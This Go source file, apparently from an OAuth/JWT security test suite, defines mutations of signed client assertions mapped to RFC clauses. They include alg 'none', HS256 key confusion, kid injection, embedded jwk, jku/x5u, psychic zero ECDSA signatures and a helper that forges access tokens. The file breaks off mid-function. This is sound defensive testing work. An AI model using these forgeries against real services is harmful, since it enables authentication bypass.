package jose

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"strings"
	"time"
	"unicode/utf16"

	gojose "github.com/go-jose/go-jose/v4"
)

// Mutation is one named change to a valid assertion. Name is stable (it
// appears in plans, evidence and failure messages); Clause is the spec
// clause the resulting assertion violates or exercises.
type Mutation struct {
	Name   string
	Clause string
	Title  string
	apply  func(*Assertion) error
}

func claimClause(name string) string {
	switch name {
	case "iss":
		return "RFC 7523 §3 item 1"
	case "sub":
		return "RFC 7523 §3 item 2"
	case "aud":
		return "RFC 7523 §3 item 3"
	case "exp":
		return "RFC 7523 §3 item 4"
	case "nbf":
		return "RFC 7523 §3 item 5"
	case "iat":
		return "RFC 7523 §3 item 6"
	case "jti":
		return "RFC 7523 §3 item 7"
	}
	return "RFC 7519 §4"
}

func durName(d time.Duration) string {
	if d < 0 {
		return (-d).String() + "-ago"
	}
	return "in-" + d.String()
}

func (a *Assertion) now() time.Time { return a.cfg.Now() }

// ExpIn sets exp to now+d (d < 0: expired).
func ExpIn(d time.Duration) Mutation {
	return Mutation{Name: "exp-" + durName(d), Clause: claimClause("exp"), Title: "exp set to now" + fmt.Sprintf("%+v", d),
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Set("exp", a.now().Add(d).Unix())
			return nil
		}}
}

// NbfIn sets nbf to now+d and, when that is past exp, moves exp to nbf+5m so
// only nbf is wrong.
func NbfIn(d time.Duration) Mutation {
	return Mutation{Name: "nbf-" + durName(d), Clause: claimClause("nbf"), Title: "nbf set to now" + fmt.Sprintf("%+v", d),
		apply: func(a *Assertion) error {
			nbf := a.now().Add(d)
			a.Claims = a.Claims.Set("nbf", nbf.Unix())
			var exp int64
			if v, ok := a.Claims.Get("exp"); ok && json.Unmarshal(v, &exp) == nil && exp <= nbf.Unix() {
				a.Claims = a.Claims.Set("exp", nbf.Add(5*time.Minute).Unix())
			}
			return nil
		}}
}

// IatIn sets iat to now+d and, when that is past exp, moves exp to iat+5m
// so only iat is odd.
func IatIn(d time.Duration) Mutation {
	return Mutation{Name: "iat-" + durName(d), Clause: claimClause("iat"), Title: "iat set to now" + fmt.Sprintf("%+v", d),
		apply: func(a *Assertion) error {
			iat := a.now().Add(d)
			a.Claims = a.Claims.Set("iat", iat.Unix())
			var exp int64
			if v, ok := a.Claims.Get("exp"); ok && json.Unmarshal(v, &exp) == nil && exp <= iat.Unix() {
				a.Claims = a.Claims.Set("exp", iat.Add(5*time.Minute).Unix())
			}
			return nil
		}}
}

// WithoutClaim removes a claim.
func WithoutClaim(name string) Mutation {
	return Mutation{Name: "without-" + name, Clause: claimClause(name), Title: "no " + name + " claim",
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Del(name)
			return nil
		}}
}

// WithClaim sets a claim to any JSON value (e.g. exp as a string).
func WithClaim(name string, v any) Mutation {
	return Mutation{Name: "claim-" + name + "=" + string(raw(v)), Clause: claimClause(name), Title: name + " set to " + string(raw(v)),
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Set(name, v)
			return nil
		}}
}

// WithExpNotNumericDate sets exp to a string (RFC 7519 §2 NumericDate).
func WithExpNotNumericDate() Mutation {
	m := WithClaim("exp", "tomorrow")
	m.Name, m.Clause, m.Title = "exp-not-numericdate", "RFC 7523 §3 item 4, RFC 7519 §4.1.4", `exp is the string "tomorrow"`
	return m
}

// WithIss sets iss.
func WithIss(v string) Mutation {
	m := WithClaim("iss", v)
	m.Name, m.Clause = "iss="+v, "RFC 7523 §3 item 1, OIDC Core §9"
	return m
}

// WithSub sets sub.
func WithSub(v string) Mutation {
	m := WithClaim("sub", v)
	m.Name, m.Clause = "sub="+v, "RFC 7523 §3 item 2.B"
	return m
}

// WithIssNotSub keeps iss = client_id and makes sub another client's id.
func WithIssNotSub() Mutation {
	return Mutation{Name: "iss-not-sub", Clause: "RFC 7523 §3 item 2.B", Title: "sub differs from iss",
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Set("sub", a.Claims.String("iss")+"-other")
			return nil
		}}
}

// WithAudience sets aud to one string.
func WithAudience(v string) Mutation {
	return Mutation{Name: "aud=" + v, Clause: "RFC 7523 §3 item 3", Title: "aud is " + v,
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Set("aud", v)
			return nil
		}}
}

// WithAudienceArray sets aud to an array (RFC 7519 §4.1.3 allows it;
// rfc7523bis demands the issuer as sole value).
func WithAudienceArray(vs ...string) Mutation {
	return Mutation{Name: "aud=" + string(raw(vs)), Clause: "RFC 7523 §3 item 3, draft-ietf-oauth-rfc7523bis §3", Title: "aud is the array " + string(raw(vs)),
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Set("aud", vs)
			return nil
		}}
}

// WithDuplicateClaim appends a second member called name whose value is
// last: a last-wins parser sees it, a strict one rejects the JSON (RFC 7519
// §4); either way the assertion must fail. Byte level: encoding/json cannot
// write a duplicate member.
func WithDuplicateClaim(name string, last any) Mutation {
	return Mutation{Name: "duplicate-" + name, Clause: "RFC 7519 §4, RFC 7515 §5.2", Title: "a second " + name + " member, " + string(raw(last)) + ", last",
		apply: func(a *Assertion) error {
			a.Claims = a.Claims.Add(name, last)
			return nil
		}}
}

// WithPayloadNotUTF8 puts an invalid UTF-8 octet inside the jti string
// (RFC 8725 §3.7, RFC 7519 §7.2 step 10). Byte level.
func WithPayloadNotUTF8() Mutation {
	return Mutation{Name: "payload-not-utf8", Clause: "RFC 8725 §3.7, RFC 7519 §7.2", Title: "claims with an invalid UTF-8 octet",
		apply: func(a *Assertion) error {
			p := a.Claims.Bytes()
			i := strings.Index(string(p), `"jti":"`)
			if i < 0 {
				return errors.New("no jti to corrupt")
			}
			i += len(`"jti":"`)
			a.rawPayload = append(append(append([]byte{}, p[:i]...), 0xff, 0xfe), p[i:]...)
			return nil
		}}
}

// WithUTF16JSON encodes header and claims as UTF-16LE JSON (RFC 8725 §3.7
// requires UTF-8). Byte level; signed with the registered key.
func WithUTF16JSON() Mutation {
	return Mutation{Name: "utf16-json", Clause: "RFC 8725 §3.7", Title: "header and claims in UTF-16",
		apply: func(a *Assertion) error {
			a.rawHeader = utf16le(a.Header.Bytes())
			a.rawPayload = utf16le(a.Claims.Bytes())
			return nil
		}}
}

func utf16le(b []byte) []byte {
	u := utf16.Encode([]rune(string(b)))
	out := make([]byte, 0, 2*len(u))
	for _, c := range u {
		out = append(out, byte(c), byte(c>>8))
	}
	return out
}

// Header mutations.

// WithAlgNone sends an Unsecured JWS with the given spelling of "none" and
// an empty signature (RFC 7518 §3.6; names are case-sensitive, RFC 8725bis).
// Byte level: go-jose cannot produce an unsecured JWS.
func WithAlgNone(spelling string) Mutation {
	return Mutation{Name: "alg-" + spelling, Clause: "RFC 7518 §3.6, RFC 8725 §3.2", Title: `alg "` + spelling + `" and an empty signature`,
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("alg", spelling)
			a.signAlg, a.signKey = "", nil
			return nil
		}}
}

// WithAlgNoneKeepSignature sets alg none but keeps the valid signature of
// the original header (a verifier that skips checks for none passes it).
func WithAlgNoneKeepSignature() Mutation {
	return Mutation{Name: "alg-none-signature-kept", Clause: "RFC 7518 §3.6, RFC 8725 §3.2", Title: `alg "none" with the original signature kept`,
		apply: func(a *Assertion) error {
			orig := a.clone()
			a.Header = a.Header.Set("alg", "none")
			a.signAlg, a.signKey = "", nil
			a.post = append(a.post, func(s string) (string, error) {
				o, err := orig.Compact()
				if err != nil {
					return "", err
				}
				return s + o[strings.LastIndexByte(o, '.')+1:], nil
			})
			return nil
		}}
}

// WithoutAlg removes the alg header and signs as before (RFC 7515 §4.1.1).
func WithoutAlg() Mutation {
	return Mutation{Name: "without-alg", Clause: "RFC 7515 §4.1.1", Title: "no alg header",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Del("alg")
			return nil
		}}
}

// WithAlg signs with the registered key under another algorithm it
// supports (PS256 for a key registered for RS256): RFC 8725 §3.1 wants one
// algorithm per key, RFC 7515 §5.2 the alg to be acceptable.
func WithAlg(alg string) Mutation {
	return Mutation{Name: "alg-swap-" + alg, Clause: "RFC 8725 §3.1, RFC 7515 §5.2", Title: "signed with " + alg + " by the registered key",
		apply: func(a *Assertion) error {
			if a.signAlg == alg || !algFitsKey(alg, a.cfg.Key.Signer.Public()) {
				return ErrNotApplicable
			}
			a.Header = a.Header.Set("alg", alg)
			a.signAlg = alg
			return nil
		}}
}

// WithAlgKeyTypeMismatch labels the registered key's signature with an alg
// of another key type (RS256 over an ECDSA signature, ES256 over an RSA
// one): RFC 8725 §3.1 requires alg to match the key. Byte level.
func WithAlgKeyTypeMismatch() Mutation {
	return Mutation{Name: "alg-key-type-mismatch", Clause: "RFC 8725 §3.1", Title: "alg of another key type than the registered key",
		apply: func(a *Assertion) error {
			label := "RS256"
			if _, ok := a.cfg.Key.Signer.Public().(*rsa.PublicKey); ok {
				label = "ES256"
			}
			// The header names label while the signature stays the
			// registered key's; joseable() sends this to SignRaw.
			a.Header = a.Header.Set("alg", label)
			return nil
		}}
}

// WithCurveMismatch signs with the P-256 key but labels and hashes it as
// ES384 (RFC 7518 §3.4 binds ES384 to P-384). Byte level: go-jose refuses.
func WithCurveMismatch() Mutation {
	return Mutation{Name: "es384-on-p256", Clause: "RFC 7518 §3.4", Title: "ES384 signature made with a P-256 key",
		apply: func(a *Assertion) error {
			k, ok := a.cfg.Key.Signer.Public().(*ecdsa.PublicKey)
			if !ok || k.Curve != elliptic.P256() {
				return ErrNotApplicable
			}
			a.Header = a.Header.Set("alg", "ES384")
			a.signAlg = "ES384"
			return nil
		}}
}

// HMAC key forms for the key-confusion probe.
const (
	PublicKeyPEM = "pem"
	PublicKeyDER = "der"
	PublicKeyJWK = "jwk"
)

// PublicKeyBytes renders a public key the way a confused verifier would
// feed it to HMAC: PEM (SPKI), DER or the JWK JSON.
func PublicKeyBytes(pub crypto.PublicKey, form string) ([]byte, error) {
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, err
	}
	switch form {
	case PublicKeyDER:
		return der, nil
	case PublicKeyPEM:
		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
	case PublicKeyJWK:
		return json.Marshal(gojose.JSONWebKey{Key: pub})
	}
	return nil, fmt.Errorf("unknown public key form %q", form)
}

// WithHS256KeyedWithPublicKey is the key-confusion attack (CVE-2016-10555,
// RFC 8725 §3.1): HS256 with the client's public key as the HMAC secret.
func WithHS256KeyedWithPublicKey(form string) Mutation {
	return Mutation{Name: "hs256-keyed-with-public-key-" + form, Clause: "RFC 8725 §3.1, RFC 7518 §3.2", Title: "HS256 keyed with the registered public key (" + form + ")",
		apply: func(a *Assertion) error {
			k, err := PublicKeyBytes(a.cfg.Key.Signer.Public(), form)
			if err != nil {
				return err
			}
			a.Header = a.Header.Set("alg", "HS256")
			a.signAlg, a.signKey = "HS256", k
			return nil
		}}
}

// WithHMAC signs with a symmetric algorithm and the given secret
// (client_secret_jwt, which SC008 forbids). Keys shorter than the hash are
// signed at the byte level because go-jose refuses them.
func WithHMAC(alg string, secret []byte, label string) Mutation {
	return Mutation{Name: strings.ToLower(alg) + "-" + label, Clause: "SC008, RFC 7518 §3.2", Title: alg + " with " + label + " secret",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("alg", alg)
			a.signAlg, a.signKey = alg, append([]byte{}, secret...)
			return nil
		}}
}

// WithKIDInjection sets kid to an injection payload and signs HS256 with
// the key a vulnerable key lookup would produce (jwt_tool playbook;
// RFC 8725 §3.10).
func WithKIDInjection(label, kid string, secret []byte) Mutation {
	return Mutation{Name: "kid-injection-" + label, Clause: "RFC 8725 §3.10", Title: "kid " + fmt.Sprintf("%q", kid) + " with HS256",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("kid", kid).Set("alg", "HS256")
			a.signAlg, a.signKey = "HS256", append([]byte{}, secret...)
			return nil
		}}
}

// WithUnknownCrit marks an extension critical (RFC 7515 §4.1.11: a
// recipient that does not understand it MUST reject the JWS).
func WithUnknownCrit(withParam bool) Mutation {
	name := "crit-unknown"
	if !withParam {
		name += "-absent"
	}
	return Mutation{Name: name, Clause: "RFC 7515 §4.1.11", Title: `crit ["urn:apisec:unknown"]`,
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("crit", []string{"urn:apisec:unknown"})
			if withParam {
				a.Header = a.Header.Set("urn:apisec:unknown", 1)
			}
			return nil
		}}
}

// WithDuplicateHeader appends a second header member; e.g. alg RS256 then
// "none", signed by the registered key (RFC 7515 §4: reject or last-wins,
// and last-wins means none). Byte level.
func WithDuplicateHeader(name string, last any) Mutation {
	return Mutation{Name: "duplicate-header-" + name, Clause: "RFC 7515 §4, RFC 7515 §5.2", Title: "a second " + name + " header member, " + string(raw(last)) + ", last",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Add(name, last)
			return nil
		}}
}

// Header byte forms no JSON encoder writes.
const (
	HeaderTrailingComma = "trailing-comma"
	HeaderArray         = "array"
	HeaderString        = "string"
)

// WithMalformedHeader replaces the header with bytes that are not a JSON
// object (RFC 7515 §5.2 steps 3–4), signed with the registered key.
func WithMalformedHeader(kind string) Mutation {
	return Mutation{Name: "header-" + kind, Clause: "RFC 7515 §5.2", Title: "header that is a JSON " + kind,
		apply: func(a *Assertion) error {
			h := a.Header.Bytes()
			switch kind {
			case HeaderTrailingComma:
				a.rawHeader = append(h[:len(h)-1:len(h)-1], []byte(",}")...)
			case HeaderArray:
				a.rawHeader = append(append([]byte("["), h...), ']')
			case HeaderString:
				a.rawHeader = raw(string(h))
			default:
				return fmt.Errorf("unknown header form %q", kind)
			}
			return nil
		}}
}

// WithTyp sets the typ header ("" removes it).
func WithTyp(typ string) Mutation {
	name := "typ-" + typ
	if typ == "" {
		name = "without-typ"
	}
	return Mutation{Name: name, Clause: "draft-ietf-oauth-rfc7523bis §4, RFC 8725 §3.11", Title: "typ " + fmt.Sprintf("%q", typ),
		apply: func(a *Assertion) error {
			if typ == "" {
				a.Header = a.Header.Del("typ")
			} else {
				a.Header = a.Header.Set("typ", typ)
			}
			return nil
		}}
}

// Key mutations.

// FreshKeyLike generates a key of the same type and size as pub.
func FreshKeyLike(pub crypto.PublicKey) (crypto.Signer, error) {
	switch k := pub.(type) {
	case *rsa.PublicKey:
		return rsa.GenerateKey(rand.Reader, k.N.BitLen())
	case *ecdsa.PublicKey:
		return ecdsa.GenerateKey(k.Curve, rand.Reader)
	case ed25519.PublicKey:
		_, priv, err := ed25519.GenerateKey(rand.Reader)
		return priv, err
	}
	return nil, fmt.Errorf("unsupported key type %T", pub)
}

// WithUnknownKID keeps the registered key but names an unknown kid
// (RFC 7515 §4.1.4).
func WithUnknownKID() Mutation {
	return Mutation{Name: "unknown-kid", Clause: "RFC 7515 §4.1.4, RFC 7523 §3 item 9", Title: "kid the target does not know",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("kid", "apisec-unknown-"+NewJTI()[:8])
			return nil
		}}
}

// WithUnregisteredKey signs with a fresh key of the same type under the
// registered kid (RFC 7523 §3 item 9: the signature must verify with the
// client's key).
func WithUnregisteredKey() Mutation {
	return Mutation{Name: "unregistered-key", Clause: "RFC 7523 §3 item 9, RFC 8725 §3.8", Title: "signed by a key the target never registered",
		apply: func(a *Assertion) error {
			k, err := FreshKeyLike(a.cfg.Key.Signer.Public())
			if err != nil {
				return err
			}
			a.signKey = k
			return nil
		}}
}

// WithSigner signs with kx under kx's kid (e.g. the suite's attacker key
// whose JWKS the recorder serves).
func WithSigner(kx Key) Mutation {
	return Mutation{Name: "signer-" + kx.KID, Clause: "RFC 7523 §3 item 9", Title: "signed by key " + kx.KID,
		apply: func(a *Assertion) error { return a.useKey(kx) }}
}

func (a *Assertion) useKey(kx Key) error {
	if kx.Alg == "" {
		alg, err := DefaultAlg(kx.Signer.Public())
		if err != nil {
			return err
		}
		kx.Alg = alg
	}
	a.signAlg, a.signKey = kx.Alg, kx.Signer
	a.Header = a.Header.Set("alg", kx.Alg)
	if kx.KID != "" {
		a.Header = a.Header.Set("kid", kx.KID)
	} else {
		a.Header = a.Header.Del("kid")
	}
	return nil
}

// WithRSAKeyBits signs RS256 with a fresh RSA key of the given size under
// the registered kid (RFC 7518 §3.3: keys MUST be ≥ 2048 bits).
func WithRSAKeyBits(bits int) Mutation {
	return Mutation{Name: fmt.Sprintf("rsa-%d-bit-key", bits), Clause: "RFC 7518 §3.3", Title: fmt.Sprintf("RS256 by a %d-bit RSA key", bits),
		apply: func(a *Assertion) error {
			k, err := rsa.GenerateKey(rand.Reader, bits)
			if err != nil {
				return err
			}
			a.Header = a.Header.Set("alg", "RS256")
			a.signAlg, a.signKey = "RS256", k
			return nil
		}}
}

// WithEmbeddedJWK signs with kx and embeds kx's public key as jwk, without
// kid (RFC 7515 §4.1.3, RFC 8725 §3.10; CVE-2018-0114).
func WithEmbeddedJWK(kx Key) Mutation {
	return Mutation{Name: "embedded-jwk", Clause: "RFC 7515 §4.1.3, RFC 8725 §3.10", Title: "jwk header with the signer's own key",
		apply: func(a *Assertion) error {
			if err := a.useKey(Key{Signer: kx.Signer, Alg: kx.Alg}); err != nil {
				return err
			}
			j, err := json.Marshal(gojose.JSONWebKey{Key: kx.Signer.Public()})
			if err != nil {
				return err
			}
			a.Header = a.Header.Set("jwk", json.RawMessage(j))
			return nil
		}}
}

// WithJKU signs with kx and points jku at url, where the suite serves kx
// (RFC 7515 §4.1.2, RFC 8725 §3.10: the target must not fetch it).
func WithJKU(url string, kx Key) Mutation {
	return Mutation{Name: "jku", Clause: "RFC 7515 §4.1.2, RFC 8725 §3.10", Title: "jku pointing at a suite-run JWKS",
		apply: func(a *Assertion) error {
			if err := a.useKey(kx); err != nil {
				return err
			}
			a.Header = a.Header.Set("jku", url)
			return nil
		}}
}

// WithX5U signs with kx and points x5u at url (RFC 7515 §4.1.5).
func WithX5U(url string, kx Key) Mutation {
	return Mutation{Name: "x5u", Clause: "RFC 7515 §4.1.5, RFC 8725 §3.10", Title: "x5u pointing at a suite-run certificate",
		apply: func(a *Assertion) error {
			if err := a.useKey(kx); err != nil {
				return err
			}
			a.Header = a.Header.Set("x5u", url)
			return nil
		}}
}

// SelfSignedCert makes a throw-away self-signed certificate for kx.
func SelfSignedCert(kx crypto.Signer, now time.Time) ([]byte, error) {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(now.UnixNano()),
		Subject:      pkix.Name{CommonName: "apisec attacker key (TEST)"},
		NotBefore:    now.Add(-time.Hour),
		NotAfter:     now.Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
	}
	return x509.CreateCertificate(rand.Reader, tmpl, tmpl, kx.Public(), kx)
}

// WithX5C signs with kx and embeds a self-signed certificate for it
// (RFC 7515 §4.1.6: the chain must be validated, not trusted).
func WithX5C(kx Key) Mutation {
	return Mutation{Name: "x5c-self-signed", Clause: "RFC 7515 §4.1.6, RFC 8725 §3.10", Title: "x5c with a self-signed certificate",
		apply: func(a *Assertion) error {
			der, err := SelfSignedCert(kx.Signer, a.now())
			if err != nil {
				return err
			}
			if err := a.useKey(Key{Signer: kx.Signer, Alg: kx.Alg}); err != nil {
				return err
			}
			a.Header = a.Header.Set("x5c", []string{base64.StdEncoding.EncodeToString(der)})
			return nil
		}}
}

// Signature and encoding mutations, applied to the compact serialization.

func editSegment(i int, f func([]byte) ([]byte, error)) func(string) (string, error) {
	return func(s string) (string, error) {
		parts := strings.Split(s, ".")
		if len(parts) != 3 {
			return "", fmt.Errorf("want 3 segments, got %d", len(parts))
		}
		seg, err := b64.DecodeString(parts[i])
		if err != nil {
			return "", err
		}
		if seg, err = f(seg); err != nil {
			return "", err
		}
		parts[i] = b64.EncodeToString(seg)
		return strings.Join(parts, "."), nil
	}
}

func sigEdit(name, clause, title string, f func(a *Assertion, sig []byte) ([]byte, error)) Mutation {
	return Mutation{Name: name, Clause: clause, Title: title,
		apply: func(a *Assertion) error {
			if a.signAlg == "" {
				return ErrNotApplicable
			}
			a.post = append(a.post, editSegment(2, func(sig []byte) ([]byte, error) { return f(a, sig) }))
			return nil
		}}
}

// WithFlippedSignature XORs every signature octet with 0x5A, as the OIDF
// suite's AbstractInvalidateJwsSignature does (RFC 7523 §3 item 9).
func WithFlippedSignature() Mutation {
	return sigEdit("signature-flipped", "RFC 7523 §3 item 9, RFC 7515 §5.2", "every signature octet XORed with 0x5A",
		func(_ *Assertion, sig []byte) ([]byte, error) {
			out := make([]byte, len(sig))
			for i, c := range sig {
				out[i] = c ^ 0x5a
			}
			return out, nil
		})
}

// WithoutSignature keeps alg but sends "header.payload." (CVE-2020-28042).
func WithoutSignature() Mutation {
	return sigEdit("signature-removed", "RFC 7523 §3 item 9, RFC 7515 §5.2", "empty signature segment",
		func(*Assertion, []byte) ([]byte, error) { return nil, nil })
}

// WithTruncatedSignature drops the last signature octet (RFC 7518 §3.4:
// an ES256 signature is exactly 64 octets).
func WithTruncatedSignature() Mutation {
	return sigEdit("signature-truncated", "RFC 7518 §3.4, RFC 7515 §5.2", "signature one octet short",
		func(_ *Assertion, sig []byte) ([]byte, error) { return sig[:len(sig)-1], nil })
}

// WithAppendedSignatureByte adds one octet to the signature.
func WithAppendedSignatureByte() Mutation {
	return sigEdit("signature-extended", "RFC 7518 §3.4, RFC 7515 §5.2", "signature one octet long",
		func(_ *Assertion, sig []byte) ([]byte, error) { return append(sig, 0), nil })
}

func needEC(a *Assertion) error {
	if !strings.HasPrefix(a.signAlg, "ES") {
		return ErrNotApplicable
	}
	return nil
}

// WithZeroECDSASignature sends r = s = 0 (the "psychic signature",
// CVE-2022-21449; RFC 7518 §3.4, r and s must be in [1, n-1]).
func WithZeroECDSASignature() Mutation {
	return sigEdit("ecdsa-zero-signature", "RFC 7518 §3.4, CVE-2022-21449", "ECDSA signature r = s = 0",
		func(a *Assertion, sig []byte) ([]byte, error) {
			if err := needEC(a); err != nil {
				return nil, err
			}
			return make([]byte, len(sig)), nil
		})
}

// WithPsychicDERSignature sends jwt_tool's DER r = s = 0 ("MAYCAQACAQA").
func WithPsychicDERSignature() Mutation {
	return sigEdit("ecdsa-zero-signature-der", "RFC 7518 §3.4, CVE-2022-21449", "DER ECDSA signature r = s = 0",
		func(a *Assertion, _ []byte) ([]byte, error) {
			if err := needEC(a); err != nil {
				return nil, err
			}
			return []byte{0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}, nil
		})
}

// WithDERECDSASignature re-encodes the valid R||S signature as ASN.1 DER,
// which RFC 7518 §3.4 does not allow in a JWS.
func WithDERECDSASignature() Mutation {
	return sigEdit("ecdsa-der-signature", "RFC 7518 §3.4", "valid ECDSA signature in DER instead of R||S",
		func(a *Assertion, sig []byte) ([]byte, error) {
			if err := needEC(a); err != nil {
				return nil, err
			}
			return RSToDER(sig)
		})
}

func postEdit(name, clause, title string, f func(string) (string, error)) Mutation {
	return Mutation{Name: name, Clause: clause, Title: title,
		apply: func(a *Assertion) error {
			a.post = append(a.post, f)
			return nil
		}}
}

// WithPaddedBase64 adds "=" padding to every segment that would have it
// (RFC 7515 §2: base64url without padding).
func WithPaddedBase64() Mutation {
	return Mutation{Name: "base64-padded", Clause: "RFC 7515 §2", Title: "segments with = padding",
		apply: func(a *Assertion) error {
			a.post = append(a.post, func(s string) (string, error) {
				parts := strings.Split(s, ".")
				changed := false
				for i, p := range parts {
					if n := len(p) % 4; n != 0 {
						parts[i] = p + strings.Repeat("=", 4-n)
						changed = true
					}
				}
				if !changed {
					return "", errors.New("no segment needs padding")
				}
				return strings.Join(parts, "."), nil
			})
			a.Header = padUntil(a.Header, func(h []byte) bool { return len(b64.EncodeToString(h))%4 != 0 })
			return nil
		}}
}

// padUntil adds a harmless "pad" header member (unknown members are
// ignored, RFC 7515 §4) sized so that ok holds for the encoded header.
func padUntil(h Object, ok func([]byte) bool) Object {
	for n := 0; n < 8; n++ {
		c := h
		if n > 0 {
			c = h.Set("pad", strings.Repeat("?", n))
		}
		if ok(c.Bytes()) {
			return c
		}
	}
	return h
}

// WithStdBase64 writes the segments in the standard base64 alphabet
// ("+" and "/"), not base64url (RFC 7515 §2). A "?????" pad member makes
// sure the header holds a "_" to translate.
func WithStdBase64() Mutation {
	return Mutation{Name: "base64-standard-alphabet", Clause: "RFC 7515 §2", Title: "segments in the +/ alphabet",
		apply: func(a *Assertion) error {
			a.Header = a.Header.Set("pad", "?????")
			a.post = append(a.post, func(s string) (string, error) {
				t := strings.NewReplacer("-", "+", "_", "/").Replace(s)
				if t == s {
					return "", errors.New("no base64url-only character to translate")
				}
				return t, nil
			})
			return nil
		}}
}

// WithLineBreak puts a newline inside the payload segment (RFC 7515 §7.1).
func WithLineBreak() Mutation {
	return postEdit("base64-line-break", "RFC 7515 §7.1, RFC 7515 §2", "a line break inside the payload segment",
		func(s string) (string, error) {
			i := strings.IndexByte(s, '.') + 8
			return s[:i] + "\n" + s[i:], nil
		})
}

// WithGarbageBase64 puts a character outside the base64url alphabet in the
// payload segment (RFC 7515 §5.2 step 2).
func WithGarbageBase64() Mutation {
	return postEdit("base64-garbage", "RFC 7515 §5.2, RFC 7515 §2", `a "!" inside the payload segment`,
		func(s string) (string, error) {
			i := strings.IndexByte(s, '.') + 5
			return s[:i] + "!" + s[i+1:], nil
		})
}

// WithTwoJWTs sends two valid JWTs joined by "." (RFC 7523 §2.2: a single
// JWT, not more than one). The second has its own jti.
func WithTwoJWTs() Mutation {
	return Mutation{Name: "two-jwts", Clause: "RFC 7523 §2.2, RFC 7523 §2.1", Title: "two JWTs in one parameter",
		apply: func(a *Assertion) error {
			second := Mutate(a)
			a.post = append(a.post, func(s string) (string, error) {
				t, err := second.Compact()
				if err != nil {
					return "", err
				}
				return s + "." + t, nil
			})
			return nil
		}}
}

// WithJWE sends the claims as a JWE (five segments, RFC 7516) encrypted by
// go-jose to a random key the target cannot know: a JWT in the wrong
// serialization (RFC 7523 §3 item 10, RFC 8725 §3.3).
func WithJWE() Mutation {
	return Mutation{Name: "jwe-instead-of-jws", Clause: "RFC 7523 §3 item 10, RFC 8725 §3.3", Title: "a JWE instead of a JWS",
		apply: func(a *Assertion) error {
			a.post = append(a.post, func(s string) (string, error) {
				var key [16]byte
				_, _ = rand.Read(key[:])
				enc, err := gojose.NewEncrypter(gojose.A128GCM, gojose.Recipient{Algorithm: gojose.DIRECT, Key: key[:]}, (&gojose.EncrypterOptions{}).WithContentType("JWT"))
				if err != nil {
					return "", err
				}
				obj, err := enc.Encrypt([]byte(s))
				if err != nil {
					return "", err
				}
				return obj.CompactSerialize()
			})
			return nil
		}}
}

// WithJSONSerialization sends the valid JWS in the JWS JSON Serialization
// (flattened or general), which a JWT must not use (RFC 7519 §7.2 step 1,
// RFC 7515 §7.2; JWT format confusion, RFC 8725bis).
func WithJSONSerialization(flattened bool) Mutation {
	name := "json-serialization-general"
	if flattened {
		name = "json-serialization-flattened"
	}
	return postEdit(name, "RFC 7519 §7.2, RFC 7515 §7.2", "the JWS in JSON serialization",
		func(s string) (string, error) {
			p := strings.Split(s, ".")
			if len(p) != 3 {
				return "", errors.New("want 3 segments")
			}
			var v any = map[string]any{"payload": p[1], "signatures": []map[string]string{{"protected": p[0], "signature": p[2]}}}
			if flattened {
				v = map[string]string{"protected": p[0], "payload": p[1], "signature": p[2]}
			}
			b, err := json.Marshal(v)
			return string(b), err
		})
}

// AsDPoPProof turns the assertion into a DPoP proof (RFC 9449 §4.2) signed
// by the same key: typ dpop+jwt, the public key in jwk, htm/htu/iat/jti and
// no iss, sub, aud or exp. A JWT of another type must not pass as a client
// assertion (RFC 8725 §3.11, §3.12).
func AsDPoPProof(htu string) Mutation {
	return Mutation{Name: "dpop-proof", Clause: "RFC 8725 §3.11, RFC 8725 §3.12, RFC 7523 §3", Title: "a DPoP proof signed by the client's key",
		apply: func(a *Assertion) error {
			j, err := json.Marshal(gojose.JSONWebKey{Key: a.cfg.Key.Signer.Public()})
			if err != nil {
				return err
			}
			a.Header = a.Header.Del("kid").Set("typ", "dpop+jwt").Set("jwk", json.RawMessage(j))
			a.Claims = Object{}.Set("jti", NewJTI()).Set("htm", "POST").Set("htu", htu).Set("iat", a.now().Unix())
			return nil
		}}
}

// ForgeWithEmbeddedJWK re-signs a token's claims with kx and embeds kx's
// public key as jwk (for forged access tokens at the resource server).
func ForgeWithEmbeddedJWK(t *Token, kx Key) (string, error) {
	alg, err := DefaultAlg(kx.Signer.Public())
	if err != nil {
		return "", err
	}
	j, err := json.Marshal(gojose.JSONWebKey{Key: kx.Signer.Public()})
	if err != nil {
		return "", err
	}
	h := cloneMap(t.Header)
	delete(h, "kid")
	h["alg"] = raw(alg)
	h["jwk"] = j
	input := b64.EncodeToString(encodeMap(h)) + "." + t.Segments[1]
	sig, err := SignRaw(alg, kx.Signer, []byte(input))
	if err != nil {
		return "", err
	}
	return input + "." + b64.EncodeToString(sig), nil
}

// WithNestedJWT makes the payload a whole JWT (cty "JWT", RFC 7519 §5.2)
// whose inner signature is by an unregistered key; the outer JWS is
// validly signed. A verifier that unwraps nested JWTs must check the inner
// one too (RFC 8725 §3.3); one that does not must refuse the non-JSON
// payload. Byte level: the payload is not a claims object.
func WithNestedJWT() Mutation {
	return Mutation{Name: "nested-jwt-inner-invalid", Clause: "RFC 8725 §3.3, RFC 7519 §5.2", Title: "a nested JWT whose inner signature is invalid",
		apply: func(a *Assertion) error {
			inner, err := Mutate(a, WithUnregisteredKey()).Compact()
			if err != nil {
				return err
			}
